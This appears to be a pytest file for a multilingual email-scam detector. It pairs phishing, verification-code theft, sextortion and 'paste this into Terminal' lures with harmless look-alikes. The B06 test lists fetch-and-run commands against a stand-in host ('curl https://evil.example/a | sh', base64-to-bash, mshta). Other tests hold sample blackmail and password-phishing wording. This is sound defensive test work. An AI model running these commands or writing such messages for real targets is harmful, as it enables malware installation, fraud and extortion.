"""Words of somebody who wants to get past: the same trick said otherwise, each with the honest twin."""

import pytest

from mailflows.examine.finding import Finding
from mailflows.examine.turn import take_turn

STRANGER = "From: a@stranger.example"
WALLET = "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"


def suspect(body: str, headers: str = STRANGER, kind: str = "text/plain") -> list[Finding]:
    raw = f"{headers}\r\nContent-Type: {kind}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}"
    return list(take_turn(raw.encode(), "suspect").findings)


def weight(found: list[Finding], look: str) -> int:
    return max((one.weight for one in found if one.look == look), default=0)


@pytest.mark.parametrize(
    "words",
    [
        "ارسل رمز التحقق",
        "أرسلي رقم التحقق لو سمحتي",
        "ارسلوا كود التفعيل على هذا الرقم",
        "ابعت الكود اللي وصلك",
        "ابعتيلي الكود يلي وصلك",
        "ابعثلي رمز التفعيل الذي وصلك",
        "عطيني الكود اللي جاك",
        "اعطيني رمز التحقق",
        "صيفطلي الكود لي وصلك",
        "صيفط ليا رمز التحقق",
        "أرسل لنا رمز التحقق الذي وصلك على هاتفك",
        "حوّل لي الكود اللي وصلك",
        "دزيلي رمز التفعيل",
        "وصلك كود بالغلط ممكن تبعتهولي",
        "کد تایید تلگرام را بفرست",
        "کدی که برات اومده رو ارسال کن",
        "ئەو کۆدەی بۆت هات بۆم بنێرە",
        "Ji kerema xwe koda ku ji te re hat ji min re bişîne",
        "Doğrulama kodunu bana gönder",
        "sana gelen kodu at",
        "doğrulama kodunu ilet",
        "Peux-tu me transférer le code que tu as reçu ?",
        "Tu peux m'envoyer le code reçu par SMS ?",
        "תגידי לי את הקוד שהגיע אליך",
        "Please share the OTP with our support agent",
    ],
)
def test_b02_a_code_is_asked_for(words: str) -> None:
    assert weight(suspect(words), "B02") == 2


def test_b02_a_bare_code_in_a_short_mail_is_a_weak_sign() -> None:
    assert weight(suspect("tu peux me donner le code"), "B02") == 1
    assert weight(suspect("Salut. " + "Le projet avance bien. " * 20 + "tu peux me donner le code"), "B02") == 0


@pytest.mark.parametrize(
    "words",
    [
        "أرسل البنك رمز التحقق إلى هاتفك",
        "لقد أُرسل رمز التحقق إلى بريدك الإلكتروني",
        "لا ترسلي الكود لأحد، وإياك أن ترسل الكود اللي وصلك",
        "أرسل الرمز البريدي للمدينة لو سمحت",
        "ابعتلي كود الخصم",
        "صيفطلي العنوان",
        "کد ملی خود را ارسال کنید",
        "کد تایید شما ۱۲۳۴۵۶ است. آن را برای کسی نفرستید",
        "کۆدەکە بە هیچ کەس مەدە",
        "Koda xwe bi kesî re parve neke",
        "Doğrulama kodunu telefonunuza gönderdik. Kodu kimseyle paylaşmayın",
        "Nous venons de vous envoyer le code de vérification. Ne le donnez à personne",
        "Tu peux me donner le code de la porte ?",
        "תשלח לי את הקוד של הבניין",
        "Please send me the code review when done",
        "Never share your OTP with anyone, even our support",
    ],
)
def test_b02_codes_that_nobody_asks_for_and_codes_of_doors(words: str) -> None:
    assert weight(suspect(words), "B02") == 0


@pytest.mark.parametrize(
    "words",
    [
        "سأنشر صورك إذا لم تدفعي. ادفعي 500 دولار بيتكوين",
        "سأنشر الفيديو الخاص بك أمام عائلتك. حولي المبلغ إلى المحفظة",
        "معي صورك الخاصة وسأرسلها لأهلك. حول 300 دولار إلى المحفظة",
        "سأفضحك أمام الجميع، ادفع لي بيتكوين",
        "Je vais publier tes photos si tu ne paies pas 500 euros en bitcoin",
        "J'ai enregistré une vidéo de vous. Payez sinon je l'enverrai à tous vos contacts",
        "عکس‌هایت را پخش می‌کنم اگر پول ندهی. بیت کوین واریز کن",
        "اگر پرداخت نکنی عکس‌های خصوصی‌ات را برای خانواده‌ات می‌فرستم",
    ],
)
def test_b04_blackmail_with_and_without_a_wallet(words: str) -> None:
    assert weight(suspect(words), "B04") == 2
    assert weight(suspect(f"{words}\n{WALLET}"), "B04") == 2


@pytest.mark.parametrize(
    "words",
    [
        "سأنشر صورك من الحفل غدا إن شاء الله",
        "سننشر صور الورشة على الموقع، ادفعوا رسوم التسجيل",
        "Je vais publier tes photos de la fête sur le site",
        "عکس‌هایت را منتشر می‌کنم در نشریه، هزینه اشتراک را پرداخت کنید",
        f"دعم الصحافة: تبرع بالبيتكوين إلى المحفظة {WALLET}",
        "I will publish your photos in the catalogue; you can pay the fee later",
    ],
)
def test_b04_pictures_of_a_feast_and_appeals_for_gifts(words: str) -> None:
    assert weight(suspect(words), "B04") == 0


@pytest.mark.parametrize(
    "words",
    [
        "Dear customer, your account will be suspended in 24 hours. Reply with your username and password to keep it.",
        "Cher client, votre compte sera bloqué. Répondez à ce message avec votre mot de passe.",
        "عزيزي العميل، سيتم إيقاف بريدك. للتحقق من حسابك أرسل لنا كلمة المرور بالرد على هذه الرسالة",
        "کاربر گرامی، حساب شما مسدود می‌شود. رمز عبور خود را در پاسخ به این ایمیل ارسال کنید",
        "Sayın kullanıcı, hesabınız kapatılacak. Şifrenizi bu e-postaya yanıt olarak gönderin",
        "Hesabê we hate rawestandin. Ji kerema xwe şîfreya xwe piştrast bikin: https://www.garden.example/x",
        "Hesabê te dê were girtin. Di nav 24 saetan de şîfreya xwe piştrast bike: https://www.garden.example/x",
    ],
)
def test_b01_a_password_by_mail_and_lures_in_kurmanji(words: str) -> None:
    assert weight(suspect(words), "B01") == 2


@pytest.mark.parametrize(
    "words",
    [
        "Your account was changed. Never reply with your password. We never ask you to verify your account by mail.",
        "Ne répondez pas à ce message. Votre compte a été mis à jour, votre mot de passe a été modifié.",
        "لا ترد على هذه الرسالة. تم تغيير كلمة المرور لحسابك",
        "يرجى الرد على هذه الرسالة لتأكيد حضورك للورشة",
        "I forgot the password for our shared account, can you reply when you know it?",
        "Ji kerema xwe civînê piştrast bike: https://www.garden.example/x",
    ],
)
def test_b01_answers_that_nobody_has_to_fear(words: str) -> None:
    assert weight(suspect(words), "B01") == 0


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("Open Terminal and paste: curl -s https://evil.example/a | sh", 2),
        ("Open Spotlight, type Terminal and paste the command below", 2),
        ("Copy this line into the Terminal and press Return: echo 'aGVsbG8=' | base64 --decode | bash", 2),
        ("echo Y3VybCBodHRw | base64 -D | bash", 2),
        ("Ouvrez le Terminal et collez : curl https://evil.example/a | bash", 2),
        ("افتحوا Terminal والصقوا: curl https://evil.example/a | sh", 2),
        ("mshta https://evil.example/a.hta", 2),
        ("در ترمینال پیست کنید: curl https://evil.example/a | sh", 1),
        ("I fixed the curl bug yesterday, see the terminal log", 0),
        ("To paste text use Ctrl+V", 0),
        ("The terminal at the airport is closed, paste the address in the map", 0),
        ("base64 -d is the flag on Linux", 0),
        ("Arrivée au terminal 2, collez l'étiquette sur la valise", 0),
    ],
)
def test_b06_commands_for_the_terminal_of_a_mac(words: str, expected: int) -> None:
    assert weight(suspect(words), "B06") == expected


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        (
            '<a href="https://evil.example/x"><div style="height:800px;background-image:url(https://img.example/a.png)">'
            "</div></a>",
            2,
        ),
        (
            '<style>.a{height:800px;background:url("https://img.example/a.png") no-repeat}</style>'
            '<a href="https://evil.example/x" class="a"></a>',
            2,
        ),
        (
            '<table background="https://img.example/a.png"><tr><td><a href="https://evil.example/x"></a></td></tr></table>',
            2,
        ),
        (
            '<div style="background:url(https://img.example/p.png)">The garden is in bloom, come and see it on Sunday '
            'if you can. <a href="https://other.example/x">The way there</a></div>',
            0,
        ),
        ('<div style="background:url(https://img.example/p.png)">See you on Sunday</div>', 0),
    ],
)
def test_b07_a_picture_that_is_painted_behind_nothing(page: str, expected: int) -> None:
    assert weight(suspect(page, kind="text/html"), "B07") == expected
